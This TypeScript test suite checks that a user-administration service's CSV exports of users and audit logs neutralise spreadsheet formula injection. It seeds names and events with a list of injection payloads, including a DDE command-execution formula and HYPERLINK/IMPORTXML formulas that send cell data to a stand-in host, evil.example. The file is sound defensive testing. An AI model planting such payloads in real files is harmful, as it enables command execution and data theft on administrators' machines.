/** What people put into their names must be no formula and no line of its own in any file an administrator opens. */

import { expect } from 'chai'
import { parse } from 'csv-parse/sync'
import { restore } from '../../adapters/csv.ts'
import { DEFAULT_TENANT, newId } from '../../server/domain/ids.ts'
import { from } from '../support/address.ts'
import { startApp, type TestApp } from '../support/app.ts'
import { allRows, nameOf } from '../support/rows.ts'

const attacks = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  `'=1+1`,
  `''=1+1`,
  'Ada"\r\n"=1+1","',
  'Ada\n=1+1',
  'Ada","=1+1',
  '"=1+1"',
  'a;=1+1',
  'a;=1+1;b',
  'a\t=1+1\tb',
  'a, =1+1',
  'a;"=1+1";b',
  'a;""=1+1',
  'a;\u00a0+1',
  "a;'=1+1",
  'a|@SUM(1)',
  ';-1',
  'a\n=1+1;b',
  'a\n"=1+1',
]
/** As spreadsheets see a cell: what begins like this is computed. */
const FORMULA = /^\s*[=+\-@＝＋－＠]/
/** Cells of a program that takes the separator to be this one, and every quote for nothing. */
const piecesOf = (body: string, separator: string) =>
  body.split(/[\r\n]/).flatMap((line) => line.split(separator).map((piece) => piece.replace(/^[\s"]+/, '')))

describe('files for spreadsheets', () => {
  let app: TestApp
  let token: string
  const rows = allRows.filter(({ row }) => row.op.downloads?.includes('text/csv'))
  before(async () => {
    app = await startApp({ TRUST_PROXY: '1' })
    token = await app.admin()
    for (const [i, attack] of attacks.entries()) {
      const body = {
        email: `m${i}@example.com`,
        given_name: attack,
        family_name: attack,
        nickname: attack,
        attributes: { a: attack },
      }
      const made = await app.call('POST', '/v1/users', { token, body, headers: from() })
      expect(made.status, `${attack}: ${JSON.stringify(made.body)}`).to.equal(201)
      const told = { tenant_id: DEFAULT_TENANT, id: newId(), type: 'test.fact', user_id: made.body.id }
      await app.db('events').insert({ ...told, user_agent: attack, data: JSON.stringify({ attack }) })
    }
  })
  after(() => app.close())

  it('are those of people and of the audit log', () => {
    expect(rows.map(nameOf)).to.have.members(['GET /v1/admin/users/export', 'GET /v1/audit/export'])
  })

  for (const { row } of rows)
    it(`hold no formula and no line that somebody else wrote: ${row.path}`, async () => {
      const query = row.path.includes('audit') ? 'format=csv&event_type=test.fact' : 'format=csv&q=m'
      const { status, body } = await app.call('GET', `${row.path}?${query}`, { token, headers: from() })
      expect(status).to.equal(200)
      const [head, ...records] = parse(body, { relax_column_count: false }) as string[][]
      expect(records).to.have.length(attacks.length)
      const cells = records.flat()
      for (const cell of cells) expect(cell).to.not.match(FORMULA)
      for (const separator of [',', ';', '\t', '|'])
        for (const piece of piecesOf(body, separator)) expect(piece, separator).to.not.match(FORMULA)
      // LibreOffice takes several at once.
      const together = parse(body, { delimiter: [',', ';', '\t'] }) as string[][]
      expect(together.map((cells) => cells.length)).to.deep.equal([head, ...records].map((cells) => cells!.length))
      const known = cells.map(restore)
      for (const attack of attacks) {
        // The apostrophe of our own is all that was added.
        const kept = known.includes(attack) || cells.includes(attack)
        expect(kept, `${row.path}: ${JSON.stringify(attack)} of ${head}`).to.equal(true)
      }
    })
})
